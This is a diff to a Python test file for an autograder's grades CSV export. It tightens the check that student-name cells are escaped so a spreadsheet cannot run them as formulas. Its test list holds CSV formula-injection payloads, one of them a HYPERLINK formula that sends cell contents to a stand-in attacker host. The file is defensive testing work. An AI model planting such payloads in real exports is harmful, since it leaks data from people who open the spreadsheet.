@@ -11,7 +11,7 @@ from hypothesis import HealthCheck, given, settings, strategies as st
 
 from autograder.engine import (gradescope_results, grades_csv, load_config, read_result, read_results,
                                write_grades_csv, write_result)
-from autograder.engine.outputs import atomic_write_text, strip_control_chars
+from autograder.engine.outputs import atomic_write_text, strip_control_chars, student_cell
 from autograder.engine.results import ItemResult, SubmissionResult
 from autograder.gradescope.schema import check_results
 
@@ -61,7 +61,7 @@ def test_grades_csv_leaves_manual_items_blank_and_sorts_students():
     assert row["isolation"] == "bubblewrap"
 
 
-# A control character before the formula is removed from the cell: it must not hide the formula.
+# A control character before the formula must not hide the formula.
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
             "\x01=HYPERLINK(1)", "\x1b\x7f@SUM(A1)", "\x9b-2+3"]
 
@@ -71,7 +71,10 @@ def test_grades_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(student):
     config = load_config("lec01_codesign")
     rows = list(csv.reader(io.StringIO(grades_csv(config, [sample(student), sample("amy")]))))
     (escaped,) = [row[0] for row in rows[1:] if row[0] != "amy"]
-    assert escaped == "'" + strip_control_chars(student)     # shown as text, without control characters
+    # shown as text: each control character as an escape (removing it would show `alice` + BEL as
+    # alice), never first in the cell, and no formula character first either
+    assert escaped == student_cell(student) and escaped == strip_control_chars(escaped)
+    assert not escaped.startswith(("=", "+", "-", "@"))
 
 
 CONTROL = "nul:\x00 bell:\x07 esc:\x1b[2J cr:\r del:\x7f c1:\x9b end"
